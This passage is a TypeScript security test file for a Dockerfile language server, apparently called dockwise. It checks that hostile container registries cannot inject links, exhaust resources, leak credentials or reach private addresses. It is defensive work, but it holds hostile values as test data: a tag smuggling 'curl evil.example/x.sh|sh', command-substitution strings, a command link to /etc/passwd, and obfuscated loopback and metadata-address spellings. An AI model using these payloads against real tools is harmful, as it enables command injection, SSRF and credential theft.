// Issue 16: hostile registries cannot stall, exhaust or fool dockwise. Every case runs against
// loopback servers only and asserts a bound (time, size, request count) and the exact outcome:
// the message, nothing rendered as a link but dockwise's own, no credential on the wire.
import { strict as assert } from 'node:assert';
import { lookup as dnsLookup } from 'node:dns';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { DidOpenTextDocumentNotification, HoverRequest, type MarkupContent } from 'vscode-languageserver-protocol/node';
import { configurationSchema } from '../../server/src/configurationSchema';
import { parseImageRef, type ImageRef } from '../../server/src/language/imageRef';
import { buildModel } from '../../server/src/language/model';
import { completionContext, completionItems } from '../../server/src/features/completion';
import { inlayHints } from '../../server/src/features/inlayHints';
import { reportHtml } from '../../server/src/registry/baseImageReport';
import { CachingRegistry, LIMITS } from '../../server/src/registry/cache';
import { hubRepositoryFrom } from '../../server/src/registry/hub';
import { imageHover } from '../../server/src/registry/hoverContent';
import { MAX_PLATFORMS, OciClient } from '../../server/src/registry/ociClient';
import { addressPolicy, hostPolicy } from '../../server/src/registry/policy';
import type { Lookup } from '../../server/src/registry/http';
import { environmentNetwork } from '../../server/src/registry/network';
import { MAX_RETRY_AFTER_MS, retryAfterMs, Transport, type TransportOptions } from '../../server/src/registry/transport';
import { platformName, RegistryError, type ImageDescription, type RegistryClient } from '../../server/src/registry/types';
import { isTag, MAX_TAGS } from '../../server/src/registry/validate';
import { unexpectedLinks } from '../fuzz/markdownLinks';
import { checkRegistry, checkRendering, fuzzRegistry, type RegistryInput } from '../fuzz/registryFuzzer';
import { startInitializedServer } from '../lsp/lsp-client';
import { ROOT } from '../paths';
import { image, OCI_INDEX, OCI_MANIFEST, publish, sha256, startHostileServer, type HostileServer } from './hostile-server';

const SECRET = 'hunter2-do-not-leak';
const BASIC = `Basic ${Buffer.from(`alice:${SECRET}`).toString('base64')}`;
const EVIL_LINK = '[Security update required: click here](https://evil.example/update)';
const EVIL_COMMAND = 'linux\n\n[Open the base image report](command:dockwise.showBaseImageReport?%5B%22file%3A%2F%2F%2Fetc%2Fpasswd%22%5D)';

let hostile: HostileServer;
let other: HostileServer;
let secure: HostileServer;
const folders: string[] = [];

before(async () => {
  [hostile, other, secure] = await Promise.all([startHostileServer(), startHostileServer(), startHostileServer({ tls: true })]);
});

after(async () => {
  await Promise.all([hostile?.stop(), other?.stop(), secure?.stop()]);
  for (const folder of folders) rmSync(folder, { recursive: true, force: true });
});

const folder = () => {
  const dir = mkdtempSync(join(tmpdir(), 'dockwise-hostile-'));
  folders.push(dir);
  return dir;
};
const ref = (text: string): ImageRef => parseImageRef(text)!.ref;
const transport = (options: Partial<TransportOptions> = {}) =>
  new Transport({ timeoutMs: 5000, maxBytes: 4 * 1024 * 1024, allowHost: () => true, credentials: async () => undefined, log: () => undefined, ...options });
const client = (options: Partial<TransportOptions> = {}) => new OciClient(transport(options));
const requestsTo = (server: HostileServer, prefix: string) => server.seen.filter((s) => s.path.startsWith(prefix));
const failure = (promise: Promise<unknown>) => promise.then(() => assert.fail('expected a RegistryError'), (e: unknown) => (e instanceof RegistryError ? e : assert.fail(`expected a RegistryError, got ${String(e)}`)));

test('the link checker sees links, images, autolinks and markup (so the checks below can fail)', () => {
  for (const markdown of ['[a](b)', '![](https://x.example/p.png)', '<https://x.example>', 'see https://x.example', 'www.x.example', 'a@x.example', '[a]: https://x', '<img src=x>']) {
    assert.notDeepEqual(unexpectedLinks(markdown), [], markdown);
  }
  for (const markdown of ['`[a](b)`', '``a ` [b](c)``', '\\[a\\]\\(b\\)', 'https:\u200b//x', 'https\\://x', 'www\\.x\\.example', 'a\\@x\\.example', '\\<img\\>']) {
    assert.deepEqual(unexpectedLinks(markdown), [], markdown);
  }
});

// ─── 6. Registry strings reach the hover unescaped ────────────────────────────────────────────────

test('6. a config whose created, os and architecture are Markdown renders no link, paragraph or command (2 requests)', async () => {
  const built = image({
    created: EVIL_LINK,
    os: EVIL_COMMAND,
    architecture: '![](https://evil.example/pixel.png)',
    variant: '<img src=https://evil.example/p.png>',
    config: { User: 'x](https://evil.example)', WorkingDir: '/app\n\n# Heading', ExposedPorts: Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`${i}/tcp [x](https://evil.example)`, {}])), Labels: { 'org.opencontainers.image.source': '![](https://evil.example/a.png)', 'org.opencontainers.image.version': '1\u202e' } },
  });
  publish(hostile, 'six/app', '1', built);
  const before = hostile.seen.length;
  const started = Date.now();
  const description = await client().describe(ref(`${hostile.host}/six/app:1`));
  assert.equal(hostile.seen.length - before, 2, 'the manifest and its config');
  assert.ok(Date.now() - started < 2000);
  // The platform fields fail the grammar, so the config's say nothing; the date does not parse, so there is none.
  assert.deepEqual(description.platforms.map(platformName), ['unknown/unknown']);
  assert.equal(description.platforms[0]!.config?.created, undefined);
  const hover = imageHover(ref(`${hostile.host}/six/app:1`), { description }, ['linux/amd64'], Date.parse('2027-01-01T00:00:00Z'));
  assert.deepEqual(unexpectedLinks(hover), []);
  assert.ok(!hover.includes('Security update') && !hover.includes('command:') && !hover.includes('\u202e'), hover);
  assert.ok(hover.length < 2500, `${hover.length} characters`);
  assert.match(hover, /^\| unknown\/unknown \| 1\.0 KB \|$/m);
  assert.match(hover, /user `x\]\(https:\/\/evil\.example\)` · workdir `\/app # Heading`/);
  assert.match(hover, /ports (?:`[^`]+` ){9}`[^`]+` and 90 more/);
});

test('6. Docker Hub\'s last_updated is shown only when it is a date, and its description as escaped text', () => {
  const hub = hubRepositoryFrom({ description: '![](https://evil.example/p.png) admin@evil.example <https://evil.example> www.evil.example', pull_count: 12, last_updated: EVIL_LINK }, 'official');
  assert.equal(hub.lastUpdated, undefined);
  const description: ImageDescription = { digest: sha256('x'), mediaType: OCI_MANIFEST, platforms: [{ os: 'linux', architecture: 'amd64', digest: sha256('x'), compressedSize: 1 }], fetchedAt: 0 };
  const hover = imageHover(ref('python:3.12'), { description, hub }, []);
  assert.deepEqual(unexpectedLinks(hover, ['[Open the image\'s page](https://hub.docker.com/_/python)']), []);
  assert.match(hover, /^Docker Official Image · 12 pulls$/m);
  assert.ok(hover.includes('\\!\\[\\]\\(https:\u200b//evil\\.example/p\\.png\\) admin\\@evil\\.example \\<https:\u200b//evil\\.example\\> www\\.evil\\.example'), hover);
});

test('6. a description an older cache kept unvalidated renders no link, in bounded size, as do the report and the hint', () => {
  const poisoned: ImageDescription = {
    digest: sha256('poisoned'),
    mediaType: OCI_INDEX,
    fetchedAt: 0,
    platforms: [
      { os: EVIL_COMMAND, architecture: 'amd64 | [x](https://evil.example) |', digest: sha256('a'), compressedSize: 5, config: { created: EVIL_LINK, user: '`` [x](https://evil.example) ``', exposedPorts: [], labels: {}, entrypoint: ['\u202e[x](y)'] } },
    ],
  };
  assert.equal(checkRendering(poisoned, ['1.0\n[x](https://evil.example)', 'ok'], undefined), undefined);
  const hover = imageHover(ref('python:3.12'), { description: poisoned }, []);
  assert.ok(!hover.includes('Security update'), 'an unparseable date is not shown');
  assert.match(hover, /^\| `linux \[Open the base image report\]\(command:[^`]*`/m, 'the bad platform is a code span, with no pipe left in it');
  const html = reportHtml({ ref: ref('python:3.12'), rows: [{ label: '3.12', ref: ref('python:3.12'), current: true, description: poisoned }], sameDigest: [] }, 'n');
  assert.ok(!/<a[\s>]|<img|href=|src=/.test(html));
  assert.ok(html.includes('<td>5 B</td><td>—</td><td>`` [x](https://evil.example) ``</td>'), 'no date, and the user as text');
  const model = buildModel(`FROM python:3.12@${sha256('poisoned')}\n`);
  assert.deepEqual(inlayHints(model, { start: { line: 0, character: 0 }, end: { line: 1, character: 0 } }, { resolvedImages: true, digestAge: true, createdOf: () => EVIL_LINK, now: Date.now() }), []);
});

test('6. over the protocol, the hover of a hostile image has one link, the report command dockwise built', async () => {
  assert.ok(existsSync(join(ROOT, 'server/out/server.js')), 'build the server first (node scripts/build.mjs)');
  publish(hostile, 'six/lsp', '1', image({ created: EVIL_LINK, os: EVIL_COMMAND, architecture: 'amd64', config: { User: EVIL_LINK } }));
  const lsp = await startInitializedServer({ dockwise: { registry: { hosts: [hostile.host] } }, storagePath: folder() });
  try {
    const uri = 'untitled:hostile-six';
    await lsp.connection.sendNotification(DidOpenTextDocumentNotification.type, { textDocument: { uri, languageId: 'dockerfile', version: 1, text: `FROM ${hostile.host}/six/lsp:1\n` } });
    const started = Date.now();
    const hover = await lsp.connection.sendRequest(HoverRequest.type, { textDocument: { uri }, position: { line: 0, character: 8 } });
    assert.ok(Date.now() - started < 3000);
    const text = (hover?.contents as MarkupContent).value;
    const reportLink = `[Open the base image report](command:dockwise.showBaseImageReport?${encodeURIComponent(JSON.stringify([uri, { line: 0, character: 8 }]))})`;
    assert.ok(text.includes(reportLink), text);
    assert.deepEqual(unexpectedLinks(text, [reportLink]), []);
    assert.equal(text.split('command:').length, 2, 'one command link');
    assert.ok(!text.includes('Security update') || /`[^`]*Security update[^`]*`/.test(text), 'registry text only in code spans');
  } finally {
    lsp.process.kill();
  }
});

// ─── 7. An image index fans out without bound ────────────────────────────────────────────────────

function index(entries: readonly { digest: string; os: string; architecture: string; variant?: string }[]): string {
  return JSON.stringify({
    schemaVersion: 2,
    mediaType: OCI_INDEX,
    manifests: entries.map((e) => ({ mediaType: OCI_MANIFEST, digest: e.digest, size: 500, platform: { os: e.os, architecture: e.architecture, ...(e.variant ? { variant: e.variant } : {}) } })),
  });
}

test('7. an index of 3,000 platforms is read for 16: at most 33 requests, under 3 s, a hover under 4 KB', async () => {
  const entries = [];
  for (let i = 0; i < 3000; i++) {
    const built = image({ os: 'linux', architecture: `arch${i}`, created: '2026-01-01T00:00:00Z' }, 1000 + i);
    publish(hostile, 'seven/wide', undefined, built);
    entries.push({ digest: built.digest, os: 'linux', architecture: `arch${i}` });
  }
  hostile.serve('/v2/seven/wide/manifests/1', index(entries), { 'content-type': OCI_INDEX });
  const heap = process.memoryUsage().heapUsed;
  const started = Date.now();
  const description = await client().describe(ref(`${hostile.host}/seven/wide:1`));
  const elapsed = Date.now() - started;
  // Counted by path, not as all the server saw: the language server of the case before may still have
  // requests of its own in flight when it is killed, and they land on the same hostile server.
  const requests = requestsTo(hostile, '/v2/seven/wide/').map((s) => s.path);
  assert.ok(requests.length <= 1 + 2 * MAX_PLATFORMS, requests.join('\n'));
  assert.equal(requests.length, 33, requests.join('\n'));
  assert.ok(elapsed < 3000, `${elapsed} ms`);
  assert.ok(process.memoryUsage().heapUsed - heap < 64 * 1024 * 1024, 'well under the 187 MB it took');
  assert.equal(description.platforms.length, MAX_PLATFORMS);
  assert.equal(description.morePlatforms?.length, 64, 'further platforms named, bounded');
  const hover = imageHover(ref(`${hostile.host}/seven/wide:1`), { description }, ['linux/amd64']);
  assert.ok(hover.length < 4096, `${hover.length} characters`);
  assert.match(hover, /also published for (?:`linux\/arch\d+`, ){7}`linux\/arch\d+` and 56 more \(not read\)/);
});

test('7. an index of 2,000 entries that all point at one child fetches it once: 3 requests', async () => {
  const child = image({ os: 'linux', architecture: 'amd64' });
  publish(hostile, 'seven/same', undefined, child);
  hostile.serve('/v2/seven/same/manifests/1', index(Array.from({ length: 2000 }, () => ({ digest: child.digest, os: 'linux', architecture: 'amd64' }))), { 'content-type': OCI_INDEX });
  const description = await client().describe(ref(`${hostile.host}/seven/same:1`));
  assert.deepEqual(requestsTo(hostile, '/v2/seven/same/').map((s) => s.path), ['/v2/seven/same/manifests/1', `/v2/seven/same/manifests/${child.digest}`, `/v2/seven/same/blobs/${child.configDigest}`]);
  assert.deepEqual(description.platforms.map(platformName), ['linux/amd64']);
});

test('7. past the cap, linux/amd64 and linux/arm64 are read first, wherever the index lists them', async () => {
  const entries = [];
  for (let i = 0; i < 40; i++) {
    const [os, architecture, variant] = i === 30 ? ['linux', 'arm64', 'v8'] : i === 39 ? ['linux', 'amd64'] : ['linux', `odd${i}`];
    const built = image({ os, architecture }, 100 + i);
    publish(hostile, 'seven/late', undefined, built);
    entries.push({ digest: built.digest, os: os!, architecture: architecture!, ...(variant ? { variant } : {}) });
  }
  hostile.serve('/v2/seven/late/manifests/1', index(entries), { 'content-type': OCI_INDEX });
  const description = await client().describe(ref(`${hostile.host}/seven/late:1`));
  const names = description.platforms.map(platformName);
  assert.equal(names.length, MAX_PLATFORMS);
  assert.ok(names.includes('linux/amd64') && names.includes('linux/arm64/v8'), names.join(' '));
  const hover = imageHover(ref(`${hostile.host}/seven/late:1`), { description }, ['linux/amd64', 'linux/arm64', 'linux/odd35']);
  assert.ok(!hover.includes('not published for'), 'a target among the names not read still counts as published');
});

// ─── 8. Credentials in clear after an https → http downgrade ──────────────────────────────────────

// The hostile server's certificate is self-signed for 127.0.0.1: these cases are about redirects, not trust.
const unverified = { ...environmentNetwork({}), strictSSL: false };

test('8. a 307 from https to http on the same host and port goes on without the credentials, and none are sent in clear', async () => {
  const asked: string[] = [];
  secure.route('/v2/eight/app/manifests/1', (req, res, url, tls) => {
    if (tls && req.headers.authorization === BASIC) {
      res.writeHead(307, { location: `http://127.0.0.1:${secure.port}${url.pathname}` });
      res.end();
      return;
    }
    res.writeHead(401, { 'www-authenticate': 'Basic realm="hostile"', 'content-type': 'application/json' });
    res.end('{}');
  });
  const t = transport({ network: unverified, credentials: async (host) => (asked.push(host), { username: 'alice', secret: SECRET }) });
  const started = Date.now();
  const error = await failure(t.request(new URL(`https://127.0.0.1:${secure.port}/v2/eight/app/manifests/1`), 'GET', OCI_MANIFEST, 'eight/app'));
  assert.ok(Date.now() - started < 3000);
  assert.equal(error.kind, 'unauthorized');
  assert.equal(error.message, `127.0.0.1:${secure.port} refused access to eight/app.`);
  const seen = requestsTo(secure, '/v2/eight/app/');
  assert.deepEqual(seen.map((s) => [s.secure, s.authorization === BASIC]), [[true, false], [true, true], [false, false]]);
  assert.ok(seen.filter((s) => !s.secure).every((s) => s.authorization === undefined), 'nothing in clear');
  assert.deepEqual(asked, [`127.0.0.1:${secure.port}`], 'looked up once, for the https challenge only');
  assert.ok(!error.message.includes(SECRET));
});

test('8. a token realm over plain http on the same host gets no credentials; the token goes back over https only', async () => {
  secure.route('/v2/eight/token/manifests/1', (req, res, _url, tls) => {
    if (tls && req.headers.authorization === 'Bearer anonymous-token') {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end('{"ok":true}');
      return;
    }
    res.writeHead(401, { 'www-authenticate': `Bearer realm="http://127.0.0.1:${secure.port}/token",service="hostile"`, 'content-type': 'application/json' });
    res.end('{}');
  });
  secure.route('/token', (_req, res) => {
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end('{"token":"anonymous-token","expires_in":300}');
  });
  const before = secure.seen.length;
  const t = transport({ network: unverified, credentials: async () => ({ username: 'alice', secret: SECRET }) });
  const response = await t.request(new URL(`https://127.0.0.1:${secure.port}/v2/eight/token/manifests/1`), 'GET', OCI_MANIFEST, 'eight/token');
  assert.equal(response.status, 200);
  const seen = secure.seen.slice(before);
  assert.deepEqual(seen.map((s) => [s.secure, s.path.split('?')[0], s.authorization ?? 'none']), [
    [true, '/v2/eight/token/manifests/1', 'none'],
    [false, '/token', 'none'],
    [true, '/v2/eight/token/manifests/1', 'Bearer anonymous-token'],
  ]);
});

test('8. a registry addressed over plain http (loopback) still gets its own credentials, and only it', async () => {
  hostile.route('/v2/eight/plain/manifests/1', (req, res) => {
    if (req.headers.authorization === BASIC) {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end('{}');
      return;
    }
    res.writeHead(401, { 'www-authenticate': 'Basic realm="plain"' });
    res.end();
  });
  const t = transport({ credentials: async (host) => (host === hostile.host ? { username: 'alice', secret: SECRET } : undefined) });
  assert.equal((await t.request(new URL(`http://${hostile.host}/v2/eight/plain/manifests/1`), 'GET', OCI_MANIFEST, 'eight/plain')).status, 200);
  assert.deepEqual(requestsTo(hostile, '/v2/eight/plain/').map((s) => s.authorization === BASIC), [false, true]);
});

// ─── 9. The private-address filter of "all" mode ─────────────────────────────────────────────────

const ALL = { mode: 'all' as const, hosts: [] as string[], trusted: true };

test('9. in "all" mode, private and loopback address literals in every spelling are refused before connecting', async () => {
  const allow = hostPolicy(ALL);
  for (const literal of ['0.0.0.0', '[::]', '[::ffff:127.0.0.1]', '[::1]', '127.1', '0x7f.0.0.1', '2130706433', 'localhost', 'registry.localhost', '[::ffff:0:127.0.0.1]', '[64:ff9b::7f00:1]', '[2002:7f00:1::]']) {
    const url = new URL(`http://${literal}:${hostile.port}/v2/nine/app/manifests/1`);
    const started = Date.now();
    const error = await failure(transport({ allowHost: allow, allowAddress: addressPolicy(ALL)! }).request(url, 'GET', OCI_MANIFEST, 'nine/app'));
    assert.ok(Date.now() - started < 200);
    assert.equal(error.kind, 'denied-by-policy', literal);
    assert.equal(error.message, `${url.host} is not allowed by dockwise.registry settings.`);
  }
  assert.deepEqual(requestsTo(hostile, '/v2/nine/app/'), [], 'no connection was made');
  // By reading: the ranges that were not covered.
  for (const host of ['100.64.0.1', '100.127.255.254', '[fe80::1]', '[febf::1]', '169.254.169.254', '[fd12::1]', '192.168.1.1', '172.31.0.1', '10.0.0.1', '198.18.0.1', '224.0.0.1', '255.255.255.255']) {
    assert.equal(allow(host), false, host);
  }
  for (const host of ['registry.example.com', '8.8.8.8', '100.128.0.1', '[2606:4700::1111]', 'ghcr.io']) assert.equal(allow(host), true, host);
  // Without the policy the same spellings do reach the loopback server: the refusal is what stops them.
  const control = await transport().request(new URL(`http://0.0.0.0:${hostile.port}/v2/nine/control/manifests/1`), 'GET', OCI_MANIFEST, 'nine/control').catch((e: unknown) => e);
  assert.ok(control instanceof RegistryError && control.kind === 'not-found');
});

/** A resolver that knows one hostile name, resolving it to loopback (both families). */
const hostileLookup: Lookup = (hostname, options, callback) => {
  if (hostname !== 'registry.hostile.test') return (dnsLookup as unknown as Lookup)(hostname, options, callback);
  const all = [{ address: '127.0.0.1', family: 4 }, { address: '::1', family: 6 }];
  return options.all ? callback(null, all) : callback(null, all[0]!.address, 4);
};

test('9. a name that resolves to loopback is refused at connect time, also behind a listed registry\'s redirect', async () => {
  const listed = { ...ALL, hosts: [hostile.host] };
  const t = transport({ allowHost: hostPolicy(listed), allowAddress: addressPolicy(listed)!, lookup: hostileLookup });
  const name = `registry.hostile.test:${hostile.port}`;
  const direct = await failure(t.request(new URL(`http://${name}/v2/nine/name/manifests/1`), 'GET', OCI_MANIFEST, 'nine/name'));
  assert.equal(direct.kind, 'denied-by-policy');
  assert.equal(direct.message, `${name} resolves to a private or loopback address; only hosts in dockwise.registry.hosts may.`);
  assert.deepEqual(requestsTo(hostile, '/v2/nine/name/'), []);
  for (const target of [`http://${name}`, `http://[::ffff:127.0.0.1]:${hostile.port}`, `http://0.0.0.0:${hostile.port}`]) {
    hostile.route('/v2/nine/redirect/manifests/1', (_req, res) => {
      res.writeHead(307, { location: `${target}/v2/nine/after/manifests/1` });
      res.end();
    });
    const error = await failure(t.request(new URL(`http://${hostile.host}/v2/nine/redirect/manifests/1`), 'GET', OCI_MANIFEST, 'nine/redirect'));
    assert.equal(error.kind, 'denied-by-policy', target);
  }
  assert.equal(requestsTo(hostile, '/v2/nine/redirect/').length, 3, 'the listed registry itself is asked');
  assert.deepEqual(requestsTo(hostile, '/v2/nine/after/'), [], 'where it redirects to is not');
  // The same name with an address policy that allows it does connect: the check is what refused it.
  const open = transport({ allowAddress: () => true, lookup: hostileLookup });
  const control = await open.request(new URL(`http://${name}/v2/nine/name/manifests/1`), 'GET', OCI_MANIFEST, 'nine/name').catch((e: unknown) => e);
  assert.ok(control instanceof RegistryError && control.kind === 'not-found');
  assert.equal(requestsTo(hostile, '/v2/nine/name/').length, 1);
  // Public addresses pass, for names that are neither listed nor public; nothing changes outside "all" mode.
  assert.equal(addressPolicy(ALL)!('registry.example.com', '93.184.216.34'), true);
  assert.equal(addressPolicy(ALL)!('registry.example.com', '::ffff:10.0.0.1'), false);
  assert.equal(addressPolicy({ ...ALL, mode: 'public' }), undefined);
  assert.equal(addressPolicy({ ...ALL, trusted: false }), undefined);
});

test('9. dockwise.registry.network and dockwise.registry.hosts are machine-scoped, so a workspace cannot set them', () => {
  const { properties } = configurationSchema() as { properties: Record<string, { scope?: string }> };
  assert.equal(properties['dockwise.registry.network']?.scope, 'machine');
  assert.equal(properties['dockwise.registry.hosts']?.scope, 'machine');
});

// ─── 10. Cache poisoning across registries ────────────────────────────────────────────────────────

test('10. a manifest whose Content-Type or own mediaType disagrees with its body is refused, not read as "unknown/unknown 0 B"', async () => {
  const cases: [string, string, string][] = [
    [JSON.stringify({ schemaVersion: 2, manifests: [] }), OCI_MANIFEST, `${hostile.host} labelled a manifest as something its content is not.`],
    [JSON.stringify({ schemaVersion: 2, config: { digest: sha256('c'), size: 1 }, layers: [] }), OCI_INDEX, `${hostile.host} labelled a manifest as something its content is not.`],
    [JSON.stringify({ schemaVersion: 2, mediaType: OCI_INDEX, config: { digest: sha256('c'), size: 1 }, layers: [] }), OCI_MANIFEST, `${hostile.host} sent a manifest whose mediaType does not match its content.`],
    [JSON.stringify({ schemaVersion: 2, fsLayers: [] }), 'application/vnd.docker.distribution.manifest.v1+prettyjws', `${hostile.host} sent something that is neither an image manifest nor an index.`],
  ];
  for (const [body, type, message] of cases) {
    const digest = sha256(body);
    hostile.serve(`/v2/ten/label/manifests/${digest}`, body, { 'content-type': type });
    const before = requestsTo(hostile, '/v2/ten/label/').length;
    const error = await failure(new CachingRegistry(client(), 60_000).describe(ref(`${hostile.host}/ten/label@${digest}`)));
    assert.equal(error.message, message);
    assert.equal(requestsTo(hostile, '/v2/ten/label/').length - before, 1);
  }
});

test('10. one registry\'s answer for a digest never answers another registry\'s pin, in memory or on disk', async () => {
  const dir = folder();
  const built = image({ os: 'linux', architecture: 'amd64' });
  publish(hostile, 'ten/app', undefined, built);
  // A description file as older versions wrote it (by digest alone), poisoned: never read, and removed.
  mkdirSync(join(dir, 'descriptions'), { recursive: true });
  const legacy = join(dir, 'descriptions', `${built.digest.replace(':', '-')}.json`);
  writeFileSync(legacy, JSON.stringify({ digest: built.digest, mediaType: OCI_MANIFEST, platforms: [{ os: 'unknown', architecture: 'unknown', digest: built.digest, compressedSize: 0 }], fetchedAt: 0 }));
  const cache = new CachingRegistry(client(), 60_000, dir);
  const onA = await cache.describe(ref(`${hostile.host}/ten/app@${built.digest}`));
  assert.deepEqual(onA.platforms.map(platformName), ['linux/amd64'], 'A itself was asked, not the legacy file');
  assert.equal(requestsTo(hostile, '/v2/ten/app/').length, 2);
  // B does not have that digest: it says so, whatever A had.
  const inMemory = await failure(cache.describe(ref(`${other.host}/ten/app@${built.digest}`)));
  assert.equal(inMemory.kind, 'not-found');
  assert.equal(requestsTo(other, '/v2/ten/app/').length, 1);
  await cache.flush();
  const fresh = new CachingRegistry(client(), 60_000, dir);
  const onDisk = await failure(fresh.describe(ref(`${other.host}/ten/app@${built.digest}`)));
  assert.equal(onDisk.kind, 'not-found');
  assert.equal(requestsTo(other, '/v2/ten/app/').length, 2);
  // A's own pin comes from disk, without a request.
  assert.deepEqual((await fresh.describe(ref(`${hostile.host}/ten/app@${built.digest}`))).platforms.map(platformName), ['linux/amd64']);
  assert.equal(requestsTo(hostile, '/v2/ten/app/').length, 2);
  await new Promise((resolve) => setTimeout(resolve, 50));
  assert.ok(!existsSync(legacy), 'the legacy file is gone');
});

// ─── 11. Tags neither validated nor bounded ───────────────────────────────────────────────────────

test('11. tags outside the OCI grammar are dropped: completion never inserts a newline or a command', async () => {
  const evil = ['1.0\nRUN curl https://evil.example/x.sh|sh', '-rf', '.hidden', 'a'.repeat(129), 'x y', '$(id)', '1.0`id`'];
  hostile.serve('/v2/eleven/app/tags/list', JSON.stringify({ name: 'eleven/app', tags: [...evil, '1.0', '1.1-slim', 42, null] }), { 'content-type': 'application/json' });
  const tags = await client().tags(ref(`${hostile.host}/eleven/app`));
  assert.deepEqual(tags, ['1.0', '1.1-slim']);
  // A list from an older cache still holds them; completion filters again.
  const model = buildModel(`FROM ${hostile.host}/eleven/app:\n`);
  const context = completionContext(model, { line: 0, character: `FROM ${hostile.host}/eleven/app:`.length })!;
  const items = completionItems(model, context, [...evil, '1.0']);
  assert.deepEqual(items.map((i) => (i.textEdit as { newText: string }).newText), ['1.0']);
});

test('11. 20 pages of 50,000 tags stop at 10,000 after one request, in under 2 s; completion over them takes under 300 ms', async () => {
  let pages = 0;
  hostile.route('/v2/eleven/many/tags/list', (_req, res, url) => {
    pages++;
    const page = Number(url.searchParams.get('page') ?? 0);
    const tags = Array.from({ length: 50_000 }, (_, i) => `${page}.${i}`);
    res.writeHead(200, { 'content-type': 'application/json', ...(page < 19 ? { link: `</v2/eleven/many/tags/list?page=${page + 1}>; rel="next"` } : {}) });
    res.end(JSON.stringify({ tags }));
  });
  const started = Date.now();
  const tags = await client().tags(ref(`${hostile.host}/eleven/many`));
  assert.ok(Date.now() - started < 2000, `${Date.now() - started} ms`);
  assert.equal(tags.length, MAX_TAGS);
  assert.equal(pages, 1);
  // Pages of 1,000 tags: ten pages make the cap.
  let small = 0;
  hostile.route('/v2/eleven/paged/tags/list', (_req, res, url) => {
    small++;
    const page = Number(url.searchParams.get('page') ?? 0);
    res.writeHead(200, { 'content-type': 'application/json', link: `</v2/eleven/paged/tags/list?page=${page + 1}>; rel="next"` });
    res.end(JSON.stringify({ tags: Array.from({ length: 1000 }, (_, i) => `${page}.${i}`) }));
  });
  assert.equal((await client().tags(ref(`${hostile.host}/eleven/paged`))).length, MAX_TAGS);
  assert.equal(small, 10);
  const model = buildModel(`FROM ${hostile.host}/eleven/many:\n`);
  const context = completionContext(model, { line: 0, character: `FROM ${hostile.host}/eleven/many:`.length })!;
  const completing = Date.now();
  const items = completionItems(model, context, tags);
  assert.ok(Date.now() - completing < 300, `${Date.now() - completing} ms`);
  assert.equal(items.length, 500);
});

test('11. the tag cache is written at most once per interval, off the calling path, pruned to its bounds, 0600 in a 0700 folder', async () => {
  const dir = join(folder(), 'registry');
  const list = Array.from({ length: MAX_TAGS }, (_, i) => `1.${i}`);
  const inner: RegistryClient = {
    describe: () => Promise.reject(new RegistryError('offline', 'no')),
    tags: async () => list,
    digestOf: async (_ref, tag) => sha256(tag),
  };
  const cache = new CachingRegistry(inner, 60_000, dir, Date.now, { saveDelayMs: 200 });
  const started = Date.now();
  for (let i = 0; i < 300; i++) await cache.tags(ref(`${hostile.host}/repo${i}`));
  for (let i = 0; i < 5000; i++) await cache.digestOf(ref(`${hostile.host}/repo0`), `t${i}`);
  assert.ok(Date.now() - started < 2000, `5,300 changes took ${Date.now() - started} ms`);
  assert.equal(cache.writes, 0, 'nothing written on the calling path');
  assert.ok(!existsSync(join(dir, 'tag-lists.json')));
  await new Promise((resolve) => setTimeout(resolve, 400));
  await cache.flush();
  assert.equal(cache.writes, 1, 'one write for all of them');
  const lists = JSON.parse(readFileSync(join(dir, 'tag-lists.json'), 'utf8')) as Record<string, { tags: string[] }>;
  const tagsJson = JSON.parse(readFileSync(join(dir, 'tags.json'), 'utf8')) as Record<string, unknown>;
  assert.ok(Object.values(lists).reduce((n, l) => n + l.tags.length, 0) <= LIMITS.totalTags);
  assert.ok(Object.keys(lists).length <= LIMITS.tagLists);
  assert.equal(Object.keys(tagsJson).length, LIMITS.tagEntries);
  assert.ok(statSync(join(dir, 'tag-lists.json')).size < 1024 * 1024, `${statSync(join(dir, 'tag-lists.json')).size} bytes (it was 14 MB)`);
  // 12: private to the user.
  assert.equal(statSync(dir).mode & 0o777, 0o700);
  assert.equal(statSync(join(dir, 'descriptions')).mode & 0o777, 0o700);
  for (const file of ['tags.json', 'tag-lists.json']) assert.equal(statSync(join(dir, file)).mode & 0o777, 0o600, file);
  assert.deepEqual(readdirSync(dir).filter((n) => n.endsWith('.tmp')), []);
});

test('11. on load, entries older than 90 days and malformed ones are dropped', async () => {
  const dir = folder();
  const now = Date.now();
  writeFileSync(join(dir, 'tags.json'), JSON.stringify({
    'r/old:1': { digest: sha256('old'), at: now - 100 * 86_400_000 },
    'r/fresh:1': { digest: sha256('fresh'), at: now },
    'r/bad:1': { digest: 'sha256:../../x', at: now },
  }));
  writeFileSync(join(dir, 'tag-lists.json'), JSON.stringify({ 'r/list': { tags: ['1.0', '1.0\nRUN x'], at: now } }));
  const asked: string[] = [];
  const inner: RegistryClient = { describe: () => Promise.reject(new RegistryError('offline', 'no')), tags: async () => [], digestOf: async (_r, tag) => (asked.push(tag), sha256(tag)) };
  const cache = new CachingRegistry(inner, 1_000_000_000_000, dir);
  const at = (path: string) => ({ ...ref('r/x'), canonicalName: path });
  assert.equal(await cache.digestOf(at('r/fresh'), '1'), sha256('fresh'));
  assert.equal(await cache.digestOf(at('r/old'), '1'), sha256('1'));
  assert.equal(await cache.digestOf(at('r/bad'), '1'), sha256('1'));
  assert.deepEqual(asked, ['1', '1']);
  assert.deepEqual(await cache.tags(at('r/list')), ['1.0']);
});

// ─── 12. Digests, Retry-After, workspace trust ────────────────────────────────────────────────────

test('12. Docker-Content-Digest is used only when it is a sha256 digest; otherwise the manifest is read and hashed', async () => {
  const built = image({ os: 'linux', architecture: 'amd64' });
  for (const [header, requests] of [['sha256:../../../v2/other/manifests/x', 2], ['SHA256:' + 'A'.repeat(64), 2], ['md5:' + 'a'.repeat(32), 2], [`sha512:${'a'.repeat(128)}`, 2], [built.digest, 1]] as const) {
    hostile.serve('/v2/twelve/head/manifests/1', built.manifest, { 'content-type': OCI_MANIFEST, 'docker-content-digest': header });
    const before = requestsTo(hostile, '/v2/twelve/head/').length;
    assert.equal(await client().digestOf(ref(`${hostile.host}/twelve/head`), '1'), built.digest, header);
